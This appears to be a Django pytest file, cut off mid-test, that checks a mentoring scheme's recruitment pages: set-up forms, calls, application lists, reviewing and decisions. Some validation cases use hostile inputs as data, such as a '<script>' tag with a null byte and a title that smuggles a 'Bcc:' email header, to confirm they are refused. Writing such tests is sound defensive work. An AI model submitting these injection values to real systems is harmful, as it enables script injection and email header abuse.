"""Coordinators' recruitment pages: set-up, calls, the applications list, reviewing,
deciding, importing staff lists and downloading applications."""

from __future__ import annotations

import datetime
import io
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.http import Http404
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils.html import strip_tags
from openpyxl import Workbook, load_workbook

from conftest import World, clear_sent_mail, make_cohort, make_user, sent_mail
from flipside.accounts.models import Invitation
from flipside.notifications.models import OutboxMessage
from flipside.privacy.equality import QUESTIONS, SELF_DESCRIBE
from flipside.privacy.models import AuditEntry
from flipside.privacy.services import save_equality_answers
from flipside.recruitment import permissions, services
from flipside.recruitment.models import (
    Application,
    Call,
    Programme,
    Review,
    ReviewNote,
    RubricCriterion,
    Topic,
)
from flipside.schemes.models import Membership, Role

from .review_builders import make_rubric, open_call, score_values, submitted

pytestmark = pytest.mark.django_db
Status = Application.Status
OUTSIDERS = ["mentor", "mentee", "observer", "outsider", "nobody"]
EQUALITY_SENTINEL = "EQUALITY-SENTINEL-7Q2"


def page(response: Any) -> str:
    return str(response.content.decode())


def signed_in(client: Client, user: Any) -> Client:
    client.force_login(user)
    return client


@pytest.fixture
def as_coordinator(world: World, client: Client) -> Client:
    return signed_in(client, world.coordinator)


# --- Scheme set-up ------------------------------------------------------------------------


def formset(prefix: str, rows: list[dict[str, Any]], *, initial: int) -> dict[str, Any]:
    data: dict[str, Any] = {
        "part": prefix,
        f"{prefix}-TOTAL_FORMS": len(rows),
        f"{prefix}-INITIAL_FORMS": initial,
        f"{prefix}-MIN_NUM_FORMS": 0,
        f"{prefix}-MAX_NUM_FORMS": 60,
    }
    for i, row in enumerate(rows):
        data |= {f"{prefix}-{i}-{name}": value for name, value in row.items()}
    return data


def setup_url(world: World) -> str:
    return reverse("recruitment:scheme_setup", args=[world.scheme.pk])


def test_setup_page_lists_topics_programmes_and_rubric(
    world: World, as_coordinator: Client
) -> None:
    Topic.objects.create(scheme=world.scheme, name="Coming out at medical school")
    Programme.objects.create(organisation=world.organisation, name="MBBS")
    make_rubric(world.scheme)
    content = page(as_coordinator.get(setup_url(world)))
    for text in [
        "Coming out at medical school",
        "MBBS",
        "Insight",
        "Add a topic",
        "Add a criterion",
    ]:
        assert text in content


def test_coordinator_adds_renames_and_removes_topics(world: World, as_coordinator: Client) -> None:
    rename = Topic.objects.create(scheme=world.scheme, name="Pronouns", order=1)
    remove = Topic.objects.create(scheme=world.scheme, name="Old", order=2)
    data = formset(
        "topics",
        [
            {"id": rename.pk, "name": "Names and pronouns", "order": "3"},
            {"id": remove.pk, "name": "Old", "order": "2", "DELETE": "on"},
            {"id": "", "name": "Placements", "order": ""},
        ],
        initial=2,
    )
    response = as_coordinator.post(setup_url(world), data)
    assert response.status_code == 302
    assert response["Location"] == setup_url(world) + "#topics"
    assert list(world.scheme.topics.values_list("name", "order")) == [
        ("Names and pronouns", 3),
        ("Placements", 4),
    ]


def test_programmes_and_rubric_are_saved_from_their_own_forms(
    world: World, as_coordinator: Client
) -> None:
    programmes = formset("programmes", [{"id": "", "name": "MBBS", "years": "5"}], initial=0)
    assert as_coordinator.post(setup_url(world), programmes).status_code == 302
    rubric = formset(
        "rubric",
        [
            {
                "id": "",
                "name": "Insight",
                "description": "Understands the scheme",
                "max_score": "4",
                "order": "",
            }
        ],
        initial=0,
    )
    assert as_coordinator.post(setup_url(world), rubric).status_code == 302
    assert list(world.organisation.programmes.values_list("name", "years")) == [("MBBS", 5)]
    assert list(world.scheme.rubric.values_list("name", "max_score")) == [("Insight", 4)]


@pytest.mark.parametrize(
    ("part", "row", "error"),
    [
        ("rubric", {"name": "Insight", "max_score": "11", "order": ""}, "less than or equal to 10"),
        (
            "rubric",
            {"name": "Insight", "max_score": "0", "order": ""},
            "greater than or equal to 1",
        ),
        ("programmes", {"name": "MBBS", "years": "9"}, "less than or equal to 8"),
        ("topics", {"name": "<script>x</script>\x00", "order": ""}, "invisible control characters"),
        ("topics", {"name": "Line\nbreak", "order": ""}, "must be on one line"),
    ],
)
def test_bad_set_up_rows_are_refused_with_an_error_and_nothing_saved(
    world: World, as_coordinator: Client, part: str, row: dict[str, str], error: str
) -> None:
    response = as_coordinator.post(setup_url(world), formset(part, [{"id": "", **row}], initial=0))
    assert response.status_code == 200
    assert error in page(response)
    assert "There is a problem" in page(response)
    assert not Topic.objects.exists()
    assert not Programme.objects.exists()
    assert not RubricCriterion.objects.exists()


def test_a_service_refusal_is_shown_above_the_list(world: World, as_coordinator: Client) -> None:
    rows = [
        {"id": "", "name": "Placements", "order": ""},
        {"id": "", "name": "PLACEMENTS", "order": ""},
    ]
    response = as_coordinator.post(setup_url(world), formset("topics", rows, initial=0))
    assert "is in the list twice" in page(response)
    assert not Topic.objects.exists()


@pytest.mark.parametrize(
    "management",
    [{"topics-TOTAL_FORMS": "5000"}, {"topics-TOTAL_FORMS": "abc"}, {"topics-INITIAL_FORMS": None}],
)
def test_tampered_set_up_forms_are_refused_without_an_error_page(
    world: World, as_coordinator: Client, management: dict[str, Any]
) -> None:
    data = formset("topics", [{"id": "", "name": "Placements", "order": ""}], initial=0)
    data = {k: v for k, v in (data | management).items() if v is not None}
    response = as_coordinator.post(setup_url(world), data)
    assert response.status_code == 200
    assert "There is a problem" in page(response)
    assert not Topic.objects.exists()


def test_a_cohort_coordinator_cannot_change_the_schemes_set_up(
    world: World, client: Client
) -> None:
    signed_in(client, world.cohort_coordinator)
    data = formset("topics", [{"id": "", "name": "Sneaky", "order": ""}], initial=0)
    assert client.post(setup_url(world), data).status_code == 404
    assert not Topic.objects.exists()


@pytest.mark.parametrize("role", OUTSIDERS)
def test_others_cannot_see_or_change_the_set_up(world: World, client: Client, role: str) -> None:
    topic = Topic.objects.create(scheme=world.scheme, name="Ours")
    signed_in(client, getattr(world, role))
    data = formset("topics", [{"id": topic.pk, "name": "Hijacked", "order": "1"}], initial=1)
    assert client.get(setup_url(world)).status_code == 404
    assert client.post(setup_url(world), data).status_code == 404
    assert topic_names() == ["Ours"]


def topic_names() -> list[str]:
    return list(Topic.objects.values_list("name", flat=True))


# --- Calls --------------------------------------------------------------------------------


def call_data(**overrides: str) -> dict[str, str]:
    return {
        "role": "mentee",
        "title": "Call for staff mentees",
        "introduction": "Learn from a student about their experience.",
        "eligibility": "I am a senior member of staff.\n\n   I can meet four times.  \n",
        "opens_on": "2027-03-28",
        "opens_time": "09:00",
        "closes_on": "2027-04-30",
        "closes_time": "17:00",
        "places": "8",
        "word_limit": "250",
        **overrides,
    }


def test_calls_page_shows_each_call_its_figures_and_its_shareable_link(
    world: World, as_coordinator: Client
) -> None:
    call = open_call(world.cohort, places=2)
    submitted(call)
    submitted(call, status=Status.ACCEPTED)
    submitted(call, status=Status.DRAFT)
    content = page(as_coordinator.get(reverse("recruitment:calls", args=[world.cohort.pk])))
    assert call.title in content
    assert "1 of 2 places" in content
    assert f'value="{services.public_url(call)}" readonly' in content
    assert "See 2 applications" in content  # the draft is not counted
    assert "Make a call for staff mentees" in content


def test_coordinator_makes_a_call_in_uk_time(world: World, as_coordinator: Client) -> None:
    url = reverse("recruitment:call_create", args=[world.cohort.pk])
    assert "Who is this call for?" in page(as_coordinator.get(url))
    response = as_coordinator.post(url, call_data())
    assert response.status_code == 302
    call = Call.objects.get(cohort=world.cohort)
    assert (call.role, call.places, call.word_limit) == (Role.MENTEE, 8, 250)
    assert call.eligibility == ["I am a senior member of staff.", "I can meet four times."]
    # 28 March 2027 is the day the clocks go forward: 09:00 in London is 08:00 UTC.
    assert call.opens_at == datetime.datetime(2027, 3, 28, 8, 0, tzinfo=datetime.UTC)
    assert call.closes_at == datetime.datetime(2027, 4, 30, 16, 0, tzinfo=datetime.UTC)


@pytest.mark.parametrize(
    ("overrides", "error"),
    [
        ({"opens_time": "01:30"}, "There is no 01:30 on 28 March 2027 in the UK"),
        (
            {"closes_on": "2027-10-31", "closes_time": "01:30"},
            "01:30 happens twice on 31 October 2027",
        ),
        (
            {"closes_on": "2027-03-28", "closes_time": "08:59"},
            "The call must close after it opens.",
        ),
        (
            {"closes_on": "2027-03-28", "closes_time": "09:00"},
            "The call must close after it opens.",
        ),
        ({"opens_on": "0001-01-01"}, "Enter a date between 2000 and 2099."),
        ({"closes_on": "9999-12-31"}, "Enter a date between 2000 and 2099."),
        ({"opens_on": "2027-02-31"}, "Enter a valid date."),
        ({"opens_time": "25:00"}, "Enter a valid time."),
        ({"places": "0"}, "greater than or equal to 1"),
        ({"word_limit": "1e309"}, "Enter a whole number."),
        ({"title": "Call\r\nBcc: x@example.com"}, "must be on one line"),
        ({"role": "coordinator"}, "Select a valid choice"),
        ({"eligibility": "x" * 301}, "under 300 characters"),
    ],
)
def test_bad_call_details_are_refused_with_a_clear_error(
    world: World, as_coordinator: Client, overrides: dict[str, str], error: str
) -> None:
    response = as_coordinator.post(
        reverse("recruitment:call_create", args=[world.cohort.pk]), call_data(**overrides)
    )
    assert response.status_code == 200
    assert error in page(response)
    assert not Call.objects.exists()


def test_a_second_call_for_the_same_role_is_not_offered(
    world: World, as_coordinator: Client
) -> None:
    open_call(world.cohort, Role.MENTEE)
    url = reverse("recruitment:call_create", args=[world.cohort.pk])
    response = as_coordinator.post(url, call_data(role="mentee"))
    assert "Select a valid choice" in page(response)
    assert Call.objects.count() == 1
    open_call(world.cohort, Role.MENTOR)
    assert as_coordinator.get(url)["Location"] == reverse(
        "recruitment:calls", args=[world.cohort.pk]
    )


def test_coordinator_edits_a_call_and_extra_fields_change_nothing(
    world: World, as_coordinator: Client
) -> None:
    call = open_call(world.cohort, Role.MENTOR)
    data = call_data(
        title="Become a student mentor",
        version="1",
        role="mentee",
        token="mine",
        cohort=str(world.other_cohort.pk),
    )
    response = as_coordinator.post(reverse("recruitment:call_edit", args=[call.pk]), data)
    assert response.status_code == 302
    updated = Call.objects.get(pk=call.pk)
    assert (updated.title, updated.version) == ("Become a student mentor", 2)
    assert (updated.role, updated.token, updated.cohort_id) == (
        Role.MENTOR,
        call.token,
        world.cohort.pk,
    )


def test_a_stale_edit_is_refused_keeping_what_was_typed(
    world: World, as_coordinator: Client
) -> None:
    call = open_call(world.cohort)
    services.update_call(
        call, by=world.cohort_coordinator, version=1, title="Saved by someone else"
    )
    url = reverse("recruitment:call_edit", args=[call.pk])
    response = as_coordinator.post(url, call_data(title="My stale edit", version="1"))
    content = page(response)
    assert response.status_code == 200
    assert "Someone else changed this call" in content
    assert 'value="My stale edit"' in content
    assert "What is saved now" in content and "Saved by someone else" in content
    assert 'name="version" value="2"' in content  # saving again is a deliberate choice
    assert Call.objects.get(pk=call.pk).title == "Saved by someone else"


@pytest.mark.parametrize("role", OUTSIDERS)
def test_others_cannot_see_make_or_edit_calls(world: World, client: Client, role: str) -> None:
    call = open_call(world.cohort, Role.MENTOR)
    signed_in(client, getattr(world, role))
    calls = client.get(reverse("recruitment:calls", args=[world.cohort.pk]))
    create = client.post(reverse("recruitment:call_create", args=[world.cohort.pk]), call_data())
    edit = client.post(
        reverse("recruitment:call_edit", args=[call.pk]), call_data(title="Hijacked", version="1")
    )
    assert (calls.status_code, create.status_code, edit.status_code) == (404, 404, 404)
    assert list(Call.objects.values_list("title", flat=True)) == [call.title]


# --- The applications list ----------------------------------------------------------------


def list_url(call: Call) -> str:
    return reverse("recruitment:applications", args=[call.pk])


def test_list_shows_submitted_applications_but_never_drafts(
    world: World, as_coordinator: Client
) -> None:
    call = open_call(world.cohort)
    submitted(call, make_user("Sam Submitted"))
    submitted(call, make_user("Dee Draft"), status=Status.DRAFT, submitted_at=None)
    submitted(open_call(world.other_cohort), make_user("Elsa Elsewhere"))
    content = page(as_coordinator.get(list_url(call)))
    assert "Sam Submitted" in content
    assert "Dee Draft" not in content
    assert "Elsa Elsewhere" not in content
    assert "1 application" in content


def test_list_filters_by_status_and_searches_names_emails_and_answers(
    world: World, as_coordinator: Client
) -> None:
    call = open_call(world.cohort)
    submitted(call, make_user("Ada Accepted", email="ada@example.ac.uk"), status=Status.ACCEPTED)
    submitted(call, make_user("Bo Submitted"), statement="I run the LGBTQ+ medics society.")

    def names(**query: str) -> list[str]:
        response = as_coordinator.get(list_url(call), query)
        return [row.label for row in response.context["rows"]]

    assert names(status="accepted") == ["Ada Accepted"]
    assert names(q="ada@example") == ["Ada Accepted"]
    assert names(q="medics society") == ["Bo Submitted"]
    assert names(q="Nobody at all") == []
    assert sorted(names(status="not-a-status", sort="nonsense")) == ["Ada Accepted", "Bo Submitted"]


def test_list_sorts_by_name_status_date_and_average_score(
    world: World, as_coordinator: Client
) -> None:
    call = open_call(world.cohort)
    now = datetime.datetime(2026, 11, 1, 12, 0, tzinfo=datetime.UTC)
    ben = submitted(call, make_user("Ben"), submitted_at=now, status=Status.SHORTLISTED)
    ali = submitted(call, make_user("Ali"), submitted_at=now + datetime.timedelta(hours=1))
    cat = submitted(call, make_user("Cat"), submitted_at=now - datetime.timedelta(hours=1))
    Review.objects.create(application=cat, reviewer=world.coordinator, total=9)
    Review.objects.create(application=ben, reviewer=world.coordinator, total=3)
    del ali

    def names(sort: str) -> list[str]:
        return [
            row.label for row in as_coordinator.get(list_url(call), {"sort": sort}).context["rows"]
        ]

    assert names("name") == ["Ali", "Ben", "Cat"]
    assert names("newest") == ["Ali", "Ben", "Cat"]
    assert names("oldest") == ["Cat", "Ben", "Ali"]
    assert names("score") == ["Cat", "Ben", "Ali"]
    assert names("status")[-1] == "Ben"


def test_list_rows_show_each_column_and_escape_what_applicants_typed(
    world: World, as_coordinator: Client
) -> None:
    call = open_call(world.cohort)
    summer = datetime.datetime(2026, 6, 30, 23, 30, tzinfo=datetime.UTC)  # 1 July in London
    application = submitted(call, make_user("<i>Ann</i>"), submitted_at=summer)
    Review.objects.create(application=application, reviewer=world.coordinator, total=4)
    Review.objects.create(application=application, reviewer=world.cohort_coordinator, total=5)
    content = page(as_coordinator.get(list_url(call), {"sort": "oldest"}))
    pk = application.pk
    assert (
        f'value="{pk}" id="select-{pk}"><label for="select-{pk}" class="visually-hidden">'
        in content
    )
    assert (
        f'<a href="{review_url(application)}?sort=oldest"><bdi>&lt;i&gt;Ann&lt;/i&gt;</bdi></a>'
        in content
    )
    assert "<i>Ann" not in content and 'class="email-address"' in content
    assert '<time datetime="2026-07-01T00:30:00+01:00">1 Jul 2026</time>' in content
    assert "<td>MBBS, year 2</td>" in content
    assert '<span class="tag tag--application-submitted">' in content
    assert '<td class="num">2</td>\n    <td class="num">4.5</td>' in content


def test_list_rows_of_staff_escape_the_job_and_the_filters_in_each_link(
    world: World, as_coordinator: Client
) -> None:
    call = open_call(world.cohort, Role.MENTEE)
    application = submitted(call, make_user("O'Neil & Co"), job_title="R&D <lead>")
    content = page(as_coordinator.get(list_url(call), {"sort": "oldest", "status": "submitted"}))
    pk = application.pk
    assert (
        f'<a href="{review_url(application)}?status=submitted&amp;sort=oldest">'
        "<bdi>O&#x27;Neil &amp; Co</bdi></a>" in content
    )
    assert f'<label for="select-{pk}" class="visually-hidden">Select <bdi>O&#x27;Neil' in content
    assert "<td>R&amp;D &lt;lead&gt;</td>" in content
    assert '<span class="tag tag--application-submitted">Submitted</span>' in content
    assert '<td class="num">0</td>\n    <td class="num">–</td>' in content


def test_the_lists_head_and_bulk_form_drawn_once_follow_each_calls_role(
    world: World, as_coordinator: Client
) -> None:
    mentors = open_call(world.cohort)
    staff = open_call(world.cohort, Role.MENTEE)
    for call in (mentors, staff):
        submitted(call)
    for call, column, other in [
        (mentors, "Programme", "Job"),
        (staff, "Job", "Programme"),
        (mentors, "Programme", "Job"),
    ]:
        content = page(as_coordinator.get(list_url(call)))
        assert f'<th scope="col">{column}</th>' in content
        assert f'<th scope="col">{other}</th>' not in content
        assert '<label for="id_outcome">Decision</label>' in content
        assert '<option value="waitlisted">Put on the waiting list</option>' in content


def test_htmx_filter_returns_only_the_table(world: World, as_coordinator: Client) -> None:
    call = open_call(world.cohort)
    submitted(call, make_user("Sam Submitted"))
    response = as_coordinator.get(list_url(call), {"q": "Sam"}, headers={"HX-Request": "true"})
    assert "<html" not in page(response)
    assert "Sam Submitted" in page(response)


def test_blind_review_hides_names_and_emails_from_the_list_and_its_search(
    world: World, as_coordinator: Client
) -> None:
    call = open_call(world.cohort, blind_review=True)
    application = submitted(call, make_user("Hidden Name", email="hidden@example.ac.uk"))
    content = page(as_coordinator.get(list_url(call)))
    assert f"Applicant {application.pk}" in content
    assert "Hidden Name" not in content and "hidden@example.ac.uk" not in content
    assert "Name, A to Z" not in content
    assert as_coordinator.get(list_url(call), {"q": "Hidden"}).context["rows"] == []
    found = as_coordinator.get(list_url(call), {"q": f"Applicant {application.pk}"})
    assert [row.pk for row in found.context["rows"]] == [application.pk]


def test_list_queries_stay_bounded_with_many_reviewed_applications(
    world: World, as_coordinator: Client, django_assert_max_num_queries: Any
) -> None:
    call = open_call(world.cohort)
    make_rubric(world.scheme)
    for _ in range(40):
        application = submitted(call)
        Review.objects.create(application=application, reviewer=world.coordinator, total=4)
        Review.objects.create(application=application, reviewer=world.cohort_coordinator, total=6)
    with django_assert_max_num_queries(11):
        response = as_coordinator.get(list_url(call), {"sort": "score"})
    assert len(response.context["rows"]) == 40
    with django_assert_max_num_queries(15):
        as_coordinator.get(reverse("recruitment:review", args=[response.context["rows"][20].pk]))
    with django_assert_max_num_queries(17):
        as_coordinator.get(export_url(call, "xlsx"))


@pytest.mark.parametrize("role", OUTSIDERS)
def test_others_cannot_see_the_list(world: World, client: Client, role: str) -> None:
    call = open_call(world.cohort)
    signed_in(client, getattr(world, role))
    assert client.get(list_url(call)).status_code == 404


def test_the_list_reads_its_call_once_for_every_coordinating_role(
    world: World, client: Client
) -> None:
    call = open_call(world.cohort, Role.MENTEE, blind_review=True)
    submitted(call)
    for person in (world.coordinator, world.org_coordinator, world.cohort_coordinator):
        signed_in(client, person)
        with CaptureQueriesContext(connection) as context:
            response = client.get(list_url(call))
        assert response.status_code == 200
        reads = [q["sql"] for q in context.captured_queries if "recruitment_call" in q["sql"]]
        assert len(reads) == 1  # nothing deferred is loaded afterwards
        # The figures come with the call; the page's rows are the only other read.
        lists = [q for q in context.captured_queries if "recruitment_application" in q["sql"]]
        assert len(lists) == 2
    listed = permissions.get_listed_call(world.coordinator, call.pk).call
    assert (listed.pk, listed.title, listed.role, listed.places, listed.blind_review) == (
        call.pk,
        call.title,
        Role.MENTEE,
        call.places,
        True,
    )
    assert (str(listed.cohort), listed.cohort.scheme.name) == (str(world.cohort), world.scheme.name)
    assert listed.cohort.scheme.organisation_id == world.organisation.pk
    for person, call_id in [(world.outsider, call.pk), (world.coordinator, call.pk + 1000)]:
        with pytest.raises(Http404):
            permissions.get_listed_call(person, call_id)


# --- Bulk decisions -----------------------------------------------------------------------


def bulk_url(call: Call) -> str:
    return reverse("recruitment:bulk_decide", args=[call.pk])


def statuses(*applications: Application) -> list[str]:
    return [Application.objects.get(pk=a.pk).status for a in applications]


def test_bulk_accept_asks_for_confirmation_then_decides_everyone_ticked(
    world: World, as_coordinator: Client
) -> None:
    call = open_call(world.cohort)
    first, second, untouched = submitted(call), submitted(call), submitted(call)
    clear_sent_mail()
    data = {"applications": [first.pk, second.pk], "outcome": "accepted", "sort": "oldest"}

    confirm = as_coordinator.post(bulk_url(call), data)
    assert confirm.status_code == 200
    assert "Mark 2 applications “Accepted”?" in page(confirm)
    assert statuses(first, second) == [Status.SUBMITTED, Status.SUBMITTED]

    response = as_coordinator.post(bulk_url(call), {**data, "confirm": "yes"})
    assert response["Location"] == list_url(call) + "?sort=oldest"
    assert statuses(first, second, untouched) == [
        Status.ACCEPTED,
        Status.ACCEPTED,
        Status.SUBMITTED,
    ]
    assert (
        Membership.objects.filter(
            cohort=world.cohort, role=Role.MENTOR, user__in=[first.applicant, second.applicant]
        ).count()
        == 2
    )
    assert len(sent_mail()) == 2


def test_bulk_shortlisting_needs_no_confirmation(world: World, as_coordinator: Client) -> None:
    call = open_call(world.cohort)
    application = submitted(call)
    as_coordinator.post(
        bulk_url(call), {"applications": [application.pk], "outcome": "shortlisted"}
    )
    assert statuses(application) == [Status.SHORTLISTED]


def test_bulk_decisions_are_all_or_nothing(world: World, as_coordinator: Client) -> None:
    call = open_call(world.cohort)
    fine, declined = submitted(call), submitted(call, status=Status.DECLINED)
    clear_sent_mail()
    response = as_coordinator.post(
        bulk_url(call),
        {"applications": [fine.pk, declined.pk], "outcome": "accepted", "confirm": "yes"},
        follow=True,
    )
    assert "Nothing was changed." in page(response)
    assert "cannot be marked accepted" in page(response)
    assert statuses(fine, declined) == [Status.SUBMITTED, Status.DECLINED]
    assert sent_mail() == []


def test_bulk_ids_from_elsewhere_and_drafts_are_not_found(
    world: World, as_coordinator: Client
) -> None:
    call = open_call(world.cohort)
    ours = submitted(call)
    draft = submitted(call, status=Status.DRAFT, submitted_at=None)
    theirs = submitted(open_call(world.other_cohort))
    other_call = open_call(world.cohort, Role.MENTEE)
    same_cohort_other_call = submitted(other_call)
    data = {
        "outcome": "shortlisted",
        "applications": [draft.pk, theirs.pk, same_cohort_other_call.pk],
    }
    assert as_coordinator.post(bulk_url(call), data).status_code == 404
    as_coordinator.post(bulk_url(call), {**data, "applications": [ours.pk, theirs.pk, draft.pk]})
    assert statuses(ours, draft, theirs, same_cohort_other_call) == [
        Status.SHORTLISTED,
        Status.DRAFT,
        Status.SUBMITTED,
        Status.SUBMITTED,
    ]


@pytest.mark.parametrize(
    "data",
    [
        {"outcome": "accepted"},
        {"applications": ["abc"], "outcome": "accepted"},
        {"applications": ["-1"], "outcome": "accepted"},
        {"applications": ["9" * 40], "outcome": "accepted"},
        {"applications": ["1"], "outcome": "withdrawn"},
        {"applications": ["1"]},
    ],
)
def test_bad_bulk_posts_change_nothing(
    world: World, as_coordinator: Client, data: dict[str, Any]
) -> None:
    call = open_call(world.cohort)
    application = submitted(call)
    data = {k: ([str(application.pk)] if v == ["1"] else v) for k, v in data.items()}
    response = as_coordinator.post(bulk_url(call), data)
    assert response.status_code == 302
    assert statuses(application) == [Status.SUBMITTED]


def test_bulk_decide_refuses_get(world: World, as_coordinator: Client) -> None:
    assert as_coordinator.get(bulk_url(open_call(world.cohort))).status_code == 405


@pytest.mark.parametrize("role", OUTSIDERS)
def test_others_cannot_decide_in_bulk(world: World, client: Client, role: str) -> None:
    call = open_call(world.cohort)
    application = submitted(call)
    signed_in(client, getattr(world, role))
    data = {"applications": [application.pk], "outcome": "accepted", "confirm": "yes"}
    assert client.post(bulk_url(call), data).status_code == 404
    assert statuses(application) == [Status.SUBMITTED]


# --- Reviewing one application ------------------------------------------------------------


def review_url(application: Application) -> str:
    return reverse("recruitment:review", args=[application.pk])


def plant_equality_answers(application: Application) -> None:
    key = next(k for k, q in QUESTIONS.items() if q.self_describe)
    save_equality_answers(
        application.applicant,
        application.call.cohort,
        answers={key: SELF_DESCRIBE, f"{key}_description": EQUALITY_SENTINEL},
        consent=True,
        asked=[key],
    )


def test_review_page_shows_every_answer_and_never_equality_data(
    world: World, as_coordinator: Client
) -> None:
    application = submitted(
        open_call(world.cohort),
        make_user("Riley Reviewed", pronouns="they/them"),
        statement="I lead the LGBTQ+ society and tutor first years.",
        access_needs="Step-free access, please.",
        other_topics="Being a carer",
    )
    plant_equality_answers(application)
    content = page(as_coordinator.get(review_url(application)))
    for text in [
        "Riley Reviewed",
        "(they/them)",
        application.applicant.email,
        "Medical School",
        "MBBS, year 2",
        "Coming out at medical school",
        "Being a carer",
        "Online",
        "Step-free access, please.",
        "I lead the LGBTQ+ society",
        "9 words (the limit is 50).",
        "Tuesday",
    ]:
        assert text in strip_tags(content), text
    assert content.count('<span class="visually-hidden">Available</span>') == 2
    assert EQUALITY_SENTINEL not in content


def test_the_status_line_names_the_status_once_then_when_it_arrived(
    world: World, as_coordinator: Client
) -> None:
    application = submitted(
        open_call(world.cohort),
        submitted_at=datetime.datetime(2026, 11, 29, 12, 7, tzinfo=datetime.UTC),
    )
    content = page(as_coordinator.get(review_url(application)))
    line = content.split('<p class="status-line">', 1)[1].split("</p>", 1)[0]
    assert " ".join(strip_tags(line).split()) == (
        "Submitted Application received at 12:07pm on Sunday 29 November 2026."
    )


def test_review_page_for_a_mentee_shows_their_job_and_what_they_teach(
    world: World, as_coordinator: Client
) -> None:
    mbbs = Programme.objects.create(organisation=world.organisation, name="MBBS")
    application = submitted(
        open_call(world.cohort, Role.MENTEE), teaching=[{"programme": mbbs.pk, "year": 3}]
    )
    content = page(as_coordinator.get(review_url(application)))
    for text in [
        "Professor of Surgery",
        "Professor or head of department",
        "MBBS, year 3",
        "To understand placements.",
    ]:
        assert text in content


def test_drafts_are_not_found_by_coordinators(world: World, as_coordinator: Client) -> None:
    draft = submitted(open_call(world.cohort), status=Status.DRAFT, submitted_at=None)
    assert as_coordinator.get(review_url(draft)).status_code == 404


def test_blind_review_hides_the_name_and_email_on_the_review_page(
    world: World, as_coordinator: Client
) -> None:
    application = submitted(
        open_call(world.cohort, blind_review=True),
        make_user("Hidden Name", email="hidden@example.ac.uk", pronouns="she/her"),
    )
    content = page(as_coordinator.get(review_url(application)))
    assert f"Applicant {application.pk}" in content
    for secret in ["Hidden Name", "hidden@example.ac.uk", "she/her"]:
        assert secret not in content


def test_review_page_shows_everyones_scores_and_the_average(
    world: World, as_coordinator: Client
) -> None:
    insight, commitment = make_rubric(world.scheme)
    application = submitted(open_call(world.cohort))
    services.score_application(
        application, reviewer=world.cohort_coordinator, scores={insight.pk: 5, commitment.pk: 3}
    )
    services.score_application(
        application, reviewer=world.coordinator, scores={insight.pk: 2, commitment.pk: 1}
    )
    content = page(as_coordinator.get(review_url(application)))
    assert "Cy Cohort" in content
    assert "Average: 5.5 out of 8, from 2 reviewers." in content
    assert f'name="score_{insight.pk}" value="2"' in content


def test_previous_and_next_follow_the_list_as_sorted(world: World, as_coordinator: Client) -> None:
    call = open_call(world.cohort)
    now = datetime.datetime(2026, 11, 1, 12, 0, tzinfo=datetime.UTC)
    first, middle, last = (
        submitted(call, submitted_at=now + datetime.timedelta(hours=h)) for h in range(3)
    )
    response = as_coordinator.get(review_url(middle), {"sort": "oldest"})
    assert (response.context["previous"], response.context["next"]) == (first.pk, last.pk)
    assert f'href="{review_url(last)}?sort=oldest" rel="next"' in page(response)


def test_reviewer_scores_an_application(world: World, as_coordinator: Client) -> None:
    criteria = make_rubric(world.scheme)
    application = submitted(open_call(world.cohort))
    url = reverse("recruitment:score", args=[application.pk])
    response = as_coordinator.post(url + "?sort=score", score_values(criteria, 4, 2))
    assert response["Location"] == review_url(application) + "?sort=score"
    review = Review.objects.get(application=application, reviewer=world.coordinator)
    assert review.total == 6


@pytest.mark.parametrize("scores", [(6, 2), (-1, 2), (4, 4)])
def test_scores_out_of_range_are_refused(
    world: World, as_coordinator: Client, scores: tuple[int, int]
) -> None:
    criteria = make_rubric(world.scheme)
    application = submitted(open_call(world.cohort))
    response = as_coordinator.post(
        reverse("recruitment:score", args=[application.pk]), score_values(criteria, *scores)
    )
    assert response.status_code == 200
    assert "There is a problem" in page(response)
    assert not Review.objects.exists()


def test_scoring_without_a_rubric_is_refused(world: World, as_coordinator: Client) -> None:
    application = submitted(open_call(world.cohort))
    url = reverse("recruitment:score", args=[application.pk])
    assert "no scoring criteria" in page(as_coordinator.post(url, {}, follow=True))
    assert not Review.objects.exists()


def test_notes_are_added_and_never_shown_to_the_applicant(
    world: World, as_coordinator: Client
) -> None:
    application = submitted(open_call(world.cohort), world.mentor)
    url = reverse("recruitment:note", args=[application.pk])
    response = as_coordinator.post(url, {"text": "PRIVATE-NOTE-42: strong <b>statement</b>"})
    assert response.status_code == 302
    content = page(as_coordinator.get(review_url(application)))
    assert "PRIVATE-NOTE-42: strong &lt;b&gt;statement&lt;/b&gt;" in content

    as_applicant = signed_in(Client(), world.mentor)
    for own_page in [
        reverse("home"),
        reverse("recruitment:my_applications"),
        reverse("recruitment:application", args=[application.pk]),
    ]:
        response = as_applicant.get(own_page)
        assert response.status_code == 200
        assert "PRIVATE-NOTE-42" not in page(response)
    assert as_applicant.get(review_url(application)).status_code == 404


@pytest.mark.parametrize("text", ["", "   ", "nul \x00 byte", "x" * 5001])
def test_bad_notes_are_refused(world: World, as_coordinator: Client, text: str) -> None:
    application = submitted(open_call(world.cohort))
    response = as_coordinator.post(
        reverse("recruitment:note", args=[application.pk]), {"text": text}
    )
    assert response.status_code == 200
    assert "There is a problem" in page(response)
    assert not ReviewNote.objects.exists()


def decide_url(application: Application) -> str:
    return reverse("recruitment:decide", args=[application.pk])


@pytest.mark.parametrize("outcome", ["accepted", "waitlisted", "declined"])
def test_a_decision_that_emails_asks_for_confirmation_first_like_the_bulk_one(
    world: World, as_coordinator: Client, outcome: str
) -> None:
    application = submitted(open_call(world.cohort), make_user("Robin Applicant"))
    clear_sent_mail()
    response = as_coordinator.post(decide_url(application) + "?sort=oldest", {"outcome": outcome})

    assert response.status_code == 200
    label = Status(outcome).label
    content = page(response)
    assert f"Mark 1 application “{label}”?" in content
    assert "Each applicant is emailed the outcome straight away. This cannot be undone." in content
    assert "Robin Applicant" in content
    assert f'action="{decide_url(application)}?sort=oldest"' in content
    assert 'name="confirm" value="yes"' in content
    assert f'href="{review_url(application)}?sort=oldest"' in content  # Cancel
    assert statuses(application) == [Status.SUBMITTED]
    assert not OutboxMessage.objects.filter(to=application.applicant.email).exists()
    assert not Membership.objects.filter(user=application.applicant).exists()
    assert sent_mail() == []

    response = as_coordinator.post(
        decide_url(application) + "?sort=oldest", {"outcome": outcome, "confirm": "yes"}
    )
    assert response["Location"] == review_url(application) + "?sort=oldest"
    assert statuses(application) == [outcome]
    emailed = OutboxMessage.objects.filter(to=application.applicant.email)
